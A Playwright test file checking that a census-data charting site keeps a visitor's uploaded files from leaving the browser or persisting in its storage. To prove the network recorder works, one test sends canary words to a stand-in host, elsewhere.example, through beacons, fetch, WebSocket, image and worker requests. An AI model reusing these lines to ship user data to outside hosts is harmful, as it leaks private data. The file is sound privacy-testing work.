// @ts-check
/**
 * A full visit with files of the visitor's own, in a browser that has no way out but one that keeps all that goes by:
 * nothing of the files leaves it, and nothing of them stays.
 */

import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { after, before, test } from "node:test";
import { Browser, chart, launch } from "./browser.mjs";
import { Recorder } from "./recorder.mjs";
import { Served } from "./served.mjs";
import { square } from "./site.mjs";

/** @typedef {import("playwright-core").Page} Page */
/** @typedef {import("./recorder.mjs").Sent} Sent */

/** @type {Served} */
let served;
/** @type {Recorder} */
let recorder;
/** @type {Browser} */
let browser;
before(async () => {
  served = await Served.start();
  recorder = await Recorder.start(served.address);
  browser = new Browser(served.address, await launch(recorder.flags), () => {});
});
after(async () => {
  await browser?.close();
  recorder?.stop();
  await served?.close();
});

/** What is in the visitor's files and nowhere else: names, words, figures. */
const OURS = [
  "kept-at-home",
  "Quillfeather",
  "Tidewrack",
  "918273",
  "7654329",
  "Brackenmoor",
  "Our unsaid goal",
  "Sorrelwick",
];

const LEVELS = ["less_than_high_school", "high_school", "some_college_or_associate", "bachelors_or_higher"];
/** A county that there is not: only the file has its name. */
const TABLE =
  "place,period,level,sex,value,name\n" +
  ["female", "male"]
    .flatMap((sex) =>
      LEVELS.map(
        (level, at) =>
          `06999,2024,${level},${sex},${sex === "male" ? 918273 : [100, 200, 300, 7654329][at]},Quillfeather County\n`,
      ),
    )
    .join("");

/** Persons as the Census Bureau writes them; a figure of ours is in the households' numbers. */
function persons() {
  const weights = Array.from({ length: 80 }, (_, r) => `PWGTP${r + 1}`);
  const head = [
    "SERIALNO",
    "ST",
    "PUMA",
    "AGEP",
    "SEX",
    "SCHL",
    "RAC1P",
    "HISP",
    "NATIVITY",
    "ESR",
    "PWGTP",
    ...weights,
  ];
  const rows = Array.from({ length: 40 }, (_, i) => [
    `2018HU918273${i % 10}`,
    "56",
    "00100",
    String(30 + (i % 20)),
    String(1 + (i % 2)),
    i % 3 ? "21" : "16",
    "1",
    "01",
    "1",
    "1",
    "10",
    ...weights.map((_, r) => String(9 + ((r + i) % 3))),
  ]);
  return [head, ...rows].map((row) => `${row.join(",")}\n`).join("");
}

const SHAPES = JSON.stringify({
  type: "FeatureCollection",
  features: ["06001", "06003"].map((GEOID, x) => ({
    type: "Feature",
    properties: { GEOID, name: `Brackenmoor ${x}` },
    geometry: square(x),
  })),
});

const both = (/** @type {string} */ text) => ({ en: text, es: text });
const AGENDA = JSON.stringify({
  id: "ours",
  title: both("Our unsaid goal"),
  contact: "mailto:sorrelwick@example.org",
  goals: [
    {
      id: "goal",
      title: both("Sorrelwick"),
      indicators: [
        {
          id: "one",
          title: both("Sorrelwick"),
          definition: both("Sorrelwick"),
          better: "higher",
          spec: { measure: "trend", place: "06037" },
        },
      ],
    },
  ],
});

/** @param {import("playwright-core").Locator} input @param {string} name @param {string} text */
const give = (input, name, text) => input.setInputFiles({ name, mimeType: "text/plain", buffer: Buffer.from(text) });

/** The ways in which a word may stand in what is sent: as it is, as part of an address, in base 64 at any offset, in hexadecimal. */
function forms(/** @type {string} */ word) {
  const base64 = [0, 1, 2].map((pad) => {
    const whole = Buffer.from("\0".repeat(pad) + word).toString("base64");
    // Without what its neighbours have a part in.
    return whole.slice([0, 2, 3][pad], word.length + pad > 2 ? Math.floor(((word.length + pad) * 8) / 6) : undefined);
  });
  return [word, encodeURIComponent(word), ...base64, Buffer.from(word).toString("hex")];
}

/** Words of ours in a text. @param {string} text */
const found = (text) => {
  const low = text.toLowerCase();
  return OURS.filter((word) => forms(word).some((form) => text.includes(form) || low.includes(form.toLowerCase())));
};

/** @param {Sent} sent */
const whole = ({ what, headers, body }) => `${what}\n${headers}\n${body.toString("latin1")}`;

test("whatever leaves a browser goes by the recorder, by whatever way it goes", async () => {
  const context = await browser.browser.newContext();
  try {
    const page = await context.newPage();
    await page.goto(new URL("fonts/README.md", served.address).href);
    await page.evaluate(async () => {
      const at = (/** @type {string} */ way) => `http://elsewhere.example/${way}?Quillfeather`;
      const ignored = () => {};
      const source = `fetch(${JSON.stringify(at("worker"))}, { mode: "no-cors", method: "POST", body: "Tidewrack" }).catch(() => {})`;
      new Worker(URL.createObjectURL(new Blob([source])));
      navigator.sendBeacon(at("beacon"), "Tidewrack");
      new Image().src = at("image");
      new EventSource(at("events"));
      new WebSocket(at("socket").replace("http:", "ws:"));
      const link = document.createElement("link");
      Object.assign(link, { rel: "prefetch", href: at("prefetch") });
      document.head.append(link);
      await fetch(at("fetch"), { mode: "no-cors", headers: { "Accept-Language": "Sorrelwick" } }).catch(ignored);
      await fetch("https://encrypted.example/").catch(ignored);
    });
    const ways = [
      "worker",
      "beacon",
      "image",
      "events",
      "prefetch",
      "fetch",
      "encrypted.example:443",
      "elsewhere.example:80",
    ];
    const missing = () => ways.filter((way) => !recorder.sent.some(({ what }) => what.includes(way)));
    while (missing().length) await page.waitForTimeout(20);
    const said = new Set(recorder.sent.flatMap((sent) => found(whole(sent))));
    assert.deepEqual([...said].sort(), ["Quillfeather", "Sorrelwick", "Tidewrack"]);
    for (const word of OURS) for (const form of forms(`${word}`)) assert.deepEqual(found(`x=${form}&y`), [word], form);
    assert.deepEqual(found(Buffer.from("a longer text with Quillfeather in it").toString("base64")), ["Quillfeather"]);
  } finally {
    await context.close();
  }
});

/** Takes all that there is to take from a chart. @param {Page} page @param {import("playwright-core").Locator} figure */
async function takeAll(page, figure) {
  for (const what of ["picture", "drawing", "table", "data"]) {
    const [file] = await Promise.all([page.waitForEvent("download"), figure.locator(`[data-take="${what}"]`).click()]);
    assert((await readFile(await file.path())).length > 100, what);
  }
  await figure.locator('[data-take="citation"]').click();
  await figure.locator(".take-references").waitFor();
  await figure.locator('[data-take="link"]').click();
  await figure.locator(".take-qr").waitFor();
  await figure.locator('[data-take="embed"]').click();
  await figure.locator(".builder .take-code").filter({ hasText: "<common-measure" }).waitFor();
  await page.frameLocator(".builder-frame").locator("common-measure canvas, common-measure .notice").first().waitFor();
  await page.keyboard.press("Escape");
  await figure.locator(".chart-how summary").click();
  await figure.locator(".how-text section").first().waitFor();
}

/** Brings a file of the visitor's to the views. @param {Page} page @param {string} name @param {string} text */
async function bring(page, name, text) {
  await page.locator('.views [data-view="data"]').evaluate((link) => /** @type {HTMLElement} */ (link).click());
  const own = page.locator("#data .own");
  await give(own.locator('input[type="file"]'), name, text);
  await own.getByRole("button", { name: /Use/ }).click();
  await own.locator(`[data-table$="${name}"]`).waitFor();
}

/** All that a browser keeps for the site. @param {Page} page @returns {Promise<string[]>} */
const kept = (page) =>
  page.evaluate(async () => {
    const names = await caches.keys();
    const held = await Promise.all(
      names.map(async (name) => {
        const cache = await caches.open(name);
        const requests = await cache.keys();
        const texts = requests.map(async (request) => `${request.url} ${await (await cache.match(request))?.text()}`);
        return [name, ...(await Promise.all(texts))];
      }),
    );
    /** @type {string[]} */
    const files = [];
    for await (const name of (await navigator.storage.getDirectory()).keys()) files.push(name);
    return [
      ...held.flat(),
      ...files.map((name) => `file ${name}`),
      ...(await indexedDB.databases()).map(({ name }) => `database ${name}`),
      ...[localStorage, sessionStorage].flatMap((store) =>
        Object.entries(store).map((pair) => `storage ${pair.join("=")}`),
      ),
      ...(document.cookie ? [`cookie ${document.cookie}`] : []),
      ...(history.state ? [`history ${JSON.stringify(history.state)}`] : []),
    ];
  });

test("nothing of a visitor's files leaves the browser, and nothing of them stays", { timeout: 180_000 }, async () => {
  recorder.sent.length = 0;
  /** @type {string[]} What pages and their workers ask for. */
  const asked = [];
  /** @type {string[]} */
  const bodies = [];
  await browser.visit({ serviceWorkers: "allow", viewport: { width: 1280, height: 900 } }, async (page) => {
    page.context().on("request", (request) => {
      if (/^(blob|data):/.test(request.url())) return;
      asked.push(request.url());
      bodies.push(request.postData() ?? "");
    });
    /** @type {string[]} */
    const addresses = [];
    page.on("framenavigated", (frame) => addresses.push(frame.url()));
    await page.locator('[data-answer="gap"][data-ready="true"]').waitFor();
    await page.waitForFunction(() => navigator.serviceWorker.controller?.state === "activated");

    // A table: charted, asked in another way, taken away, in the other language and the dark.
    await bring(page, "kept-at-home.csv", TABLE);
    await page.locator("#data .own").getByRole("button", { name: "Gaps" }).click();
    const figure = page.locator("#gap figure.chart");
    const shows = (/** @type {string} */ view, /** @type {RegExp} */ words) =>
      page.locator(`#${view} figure[data-ready]:not([aria-busy=true])`).filter({ hasText: words }).waitFor();
    await shows("gap", /Quillfeather/);
    await shows("gap", /kept-at-home\.csv/);
    await takeAll(page, figure);
    await page.locator('[data-language="es"]').click();
    await shows("gap", /mujeres/i);
    await page.locator('[data-language="en"]').click();
    await page.locator("#theme").click();
    await page.evaluate(() => dispatchEvent(new Event("beforeprint")));
    await page.evaluate(() => dispatchEvent(new Event("afterprint")));

    // Persons.
    await bring(page, "kept-at-home-persons.csv", persons());
    await page.locator('.views [data-view="gap"]').evaluate((link) => /** @type {HTMLElement} */ (link).click());
    await page
      .locator("#gap .ask")
      .getByLabel("Table", { exact: true })
      .selectOption({
        label: /** @type {string} */ (
          await page
            .locator("#gap .ask")
            .getByLabel("Table", { exact: true })
            .locator("option", { hasText: "persons" })
            .textContent()
        ),
      });
    await shows("gap", /Wyoming/);

    // Shapes on the map.
    await chart(page, "map");
    await give(page.locator("#map .map-file"), "kept-at-home.geojson", SHAPES);
    await page.locator("#map .map-status").filter({ hasText: "2 places have a shape" }).waitFor();

    // What if, and an agenda.
    await chart(page, "what-if");
    await page.locator("#what-if .adds").getByLabel("Who").first().fill("A partner");
    await shows("what-if", /A partner/);
    await page.locator('.views [data-view="agenda"]').evaluate((link) => /** @type {HTMLElement} */ (link).click());
    await page.locator(".agenda-goal").first().waitFor();
    await give(page.locator(".agenda-file"), "kept-at-home.json", AGENDA);
    await page.getByRole("heading", { name: "Our unsaid goal" }).waitFor();

    // The rest of the site is kept for later; then the presentation, and the page once more.
    await page.locator('.views [data-view="how"]').evaluate((link) => /** @type {HTMLElement} */ (link).click());
    addresses.push(page.url());
    assert.deepEqual((await kept(page)).flatMap(found), [], "while it is open");
    const deck = await page.context().newPage();
    await deck.goto(new URL("present.html?lang=en", served.address).href);
    await deck.locator('#deck[data-shown="1.1"]').waitFor();
    await deck.keyboard.press("PageDown");
    await deck.locator('#deck[data-shown="2.1"]').waitFor();
    await deck.keyboard.press("q");
    await deck.locator("#code svg").waitFor();
    await deck.close();
    await page.reload();
    await page.locator("html[data-started]").waitFor();

    const things = await kept(page);
    assert(
      things.some((text) => text.startsWith("common-measure-")),
      "the site itself is kept",
    );
    assert.deepEqual(things.flatMap(found), []);
    assert.deepEqual(
      things.filter((text) => /^(file|database|storage|cookie|history) /.test(text)),
      [],
    );
    assert.deepEqual(await page.context().cookies(), []);
    assert.deepEqual(addresses.flatMap(found), [], "an address is sent when it is opened again");
  });

  const { origin } = new URL(served.address);
  assert.deepEqual(
    asked.filter((url) => new URL(url).origin !== origin),
    [],
  );
  // Also where the service worker answers in the server's place: the next visitor may have none.
  assert.deepEqual(asked.flatMap(found), []);
  assert.deepEqual(bodies.filter(Boolean), []);
  assert(recorder.sent.length > 50, "the site itself was fetched");
  const others = recorder.sent.filter(({ what }) => !what.startsWith(`GET ${origin}/`)).map(({ what }) => what);
  assert.deepEqual(others, []);
  for (const sent of recorder.sent) {
    assert.equal(sent.body.length, 0, sent.what);
    assert.deepEqual(found(whole(sent)), [], sent.what);
    assert.doesNotMatch(sent.headers, /^cookie$/im, sent.what);
  }
});
